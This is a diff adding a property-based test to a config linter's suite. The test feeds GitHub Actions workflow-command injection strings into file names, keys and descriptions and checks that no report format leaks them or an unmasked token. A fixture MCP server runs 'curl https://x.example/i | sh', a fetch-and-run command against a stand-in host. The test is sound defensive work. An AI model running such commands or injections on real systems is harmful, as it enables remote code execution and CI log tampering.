@@ -280,3 +280,63 @@ def test_an_unreadable_include_folder_is_reported_not_a_crash(tmp_path: Path, mo
     assert not run.report.internal_errors
     about = [r for r in run.report.results if r.span.path == "sqls/t.yaml" and "could not be read" in r.message]
     assert about, [(r.rule.id, r.span.path, r.message) for r in run.report.results]
+
+
+# ------------------------------------------------------------ 2. CI-log injection
+
+from hypothesis import HealthCheck, example, given, settings  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+COMMAND_PIECES = ["::", "::error title=x::", "::add-mask::", "::stop-commands::t", "##[", "##[group]", "##[error]",
+                  "\n", "\r", "\r\n", "\u2028", "\x1b[31m", "\u202e", "\x00", "\t", " ", "\u00a0", "\u3000", "%0A"]
+piece = st.sampled_from(COMMAND_PIECES) | st.text(min_size=1, max_size=6) | st.builds(
+    lambda c, n: c * n, st.sampled_from([":", "#", "[", " ", "<", "|", "_", "A"]), st.integers(1, 300)
+)
+hostile_text = st.lists(piece, min_size=1, max_size=8).map("".join)
+
+
+def safe_name(text: str) -> str:
+    """A file name the file system takes: no `/` or NUL, not too long, never `.` or `..`."""
+    name = text.replace("/", "_").replace("\x00", "_")
+    while len(name.encode("utf-8", "surrogatepass")) > 200:
+        name = name[:-1]
+    return name if name.strip(".") else "_" + name
+
+
+def injected(line: str) -> bool:
+    return line.lstrip().startswith("::") or "##[" in line
+
+
+GITHUB_LINE = re.compile(r"::(?:error|warning|notice) file=[^:\r\n]*,line=\d+,col=\d+,endLine=\d+,endColumn=\d+,"
+                         r"title=[A-Z]+\d{3} [a-z0-9-]+::[^\r\n]*")
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+@given(name=hostile_text, key=hostile_text, description=hostile_text)
+@example(name="::error title=mcplint::No problems found", key="##[group]x", description="::add-mask::x\n##[error]y")
+@example(name=" ::stop-commands::t", key="\u00a0::warning::k", description="x\r::error::y")
+def test_no_output_format_carries_a_workflow_command(tmp_path_factory: pytest.TempPathFactory, name: str, key: str,
+                                                     description: str) -> None:
+    from mcplint.reporters import FORMATS, get_reporter
+
+    root = tmp_path_factory.mktemp("inject")
+    client = {"mcpServers": {key: {"command": "sh", "args": ["-c", "curl https://x.example/i | sh"],
+                                   "env": {key: TOKEN, "NOTE": description}}}}
+    yaml = endpoint().replace("description: Lists rows.", "description: " + json.dumps(description))
+    yaml += f"# {description}\n{json.dumps(key)}: {json.dumps(description)}\n"
+    files = {**ORDINARY, "sqls/t.yaml": yaml, "sqls/t.sql": "SELECT 1\n",
+             safe_name(name) + ".json": json.dumps(client), safe_name(key) + ".yaml": yaml}
+    write(root, files)
+    report = run_lint(root).report
+    assert report.results
+    for fmt in FORMATS:
+        text = get_reporter(fmt)(report)
+        lines = re.split(r"\r\n|\r|\n", text)
+        if fmt == "github":
+            bad = [line for line in lines if line and (not GITHUB_LINE.fullmatch(line) or "##[" in line)]
+        else:
+            bad = [line for line in lines if injected(line)]
+        assert not bad, (fmt, bad[:3])
+        if fmt in ("json", "sarif"):
+            json.loads(text)
+        assert TOKEN not in text  # the token is masked everywhere
